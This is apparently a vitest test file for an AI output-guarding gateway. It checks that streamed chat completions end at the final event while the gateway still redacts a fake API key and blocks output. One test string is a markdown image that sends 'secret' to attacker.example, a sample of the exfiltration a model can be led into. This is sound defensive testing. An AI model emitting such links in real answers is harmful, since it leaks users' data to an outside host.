import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
import { createSseParser } from './sse-parser.js';

// The gateway ends the caller's stream as soon as the upstream's final `data: [DONE]` was guarded, in
// the same write as the last events, without waiting for the upstream to close its body. These tests
// use an upstream that sends its whole stream at once and then keeps the body open for a while.
const LINGER_MS = 400;
const KEY = `sk-${'Qw3Er4Ty5U'.repeat(3)}`;

function streamOf(text: string): string {
  let out = '';
  for (let index = 0; index < text.length; index += 4) {
    const chunk = {
      id: 'c',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta: { content: text.slice(index, index + 4) }, finish_reason: null }],
    };
    out += `data: ${JSON.stringify(chunk)}\n\n`;
  }
  const last = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [] as unknown[] };
  last.choices.push({ index: 0, delta: {}, finish_reason: 'stop' });
  return `${out}data: ${JSON.stringify(last)}\n\ndata: [DONE]\n\n`;
}

async function readStream(url: string): Promise<{ text: string; done: boolean; error: string | null }> {
  const response = await fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'hello' }] }),
  });
  expect(response.status).toBe(200);
  let text = '';
  let done = false;
  let error: string | null = null;
  const parser = createSseParser({
    onEvent(event) {
      if (event.data === '[DONE]') {
        done = true;
        return;
      }
      const data = JSON.parse(event.data) as {
        error?: { code?: string };
        choices?: { delta?: { content?: string } }[];
      };
      if (data.error) error = data.error.code ?? 'unknown';
      text += data.choices?.[0]?.delta?.content ?? '';
    },
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  // A stream that reached the gateway in one read leaves as one sized response; the size must be exact.
  const length = response.headers.get('content-length');
  if (length !== null) expect(Number(length)).toBe(bytes.length);
  parser.push(bytes);
  parser.end();
  return { text, done, error };
}

describe('streams end at the final event', () => {
  let upstream: Server;
  let gateway: TestGateway;
  let answer = '';
  let upstreamEnded = 0;
  let upstreamStarted = 0;
  beforeAll(async () => {
    upstream = createServer((request, response) => {
      request.resume();
      request.on('end', () => {
        upstreamStarted++;
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        response.write(streamOf(answer));
        setTimeout(() => {
          upstreamEnded++;
          response.end();
        }, LINGER_MS);
      });
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    const port = (upstream.address() as AddressInfo).port;
    gateway = await startTestGateway({
      upstreams: [{ name: 'burst', provider: 'openai', baseUrl: `http://127.0.0.1:${port}/v1`, retries: 0 }],
    });
  });
  afterAll(async () => {
    await gateway.close();
    upstream.closeAllConnections();
    await new Promise((resolve) => upstream.close(resolve));
  });

  it('delivers the whole guarded answer before the upstream closes its body', async () => {
    answer = 'Here is the plan for your trip: museums first, then the coast, then the old town.';
    const endedBefore = upstreamEnded;
    const result = await readStream(gateway.url);
    expect(result).toEqual({ text: answer, done: true, error: null });
    // The caller had everything while the upstream body was still open.
    expect(upstreamEnded).toBe(endedBefore);
  });

  it('still redacts a key that arrives in the burst', async () => {
    answer = `Use the key ${KEY} for the staging account, then rotate it.`;
    const result = await readStream(gateway.url);
    expect(result.done).toBe(true);
    expect(result.text).not.toContain(KEY);
    expect(result.text).toContain('[REDACTED:');
    expect(result.text).toContain('then rotate it.');
  });

  it('still stops a burst that carries markdown exfiltration, without the violating text', async () => {
    answer = 'Summary ready. ![x](https://attacker.example/p.png?d=secret) Bye.';
    const result = await readStream(gateway.url);
    expect(result.error).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(result.done).toBe(false);
    expect(result.text).not.toContain('attacker');
  });

  it('keeps serving while earlier upstream bodies drain', async () => {
    answer = 'One more answer, to show the gateway keeps working.';
    const started = upstreamStarted;
    const results = await Promise.all([readStream(gateway.url), readStream(gateway.url)]);
    for (const result of results) expect(result).toEqual({ text: answer, done: true, error: null });
    expect(upstreamStarted).toBe(started + 2);
  });
});
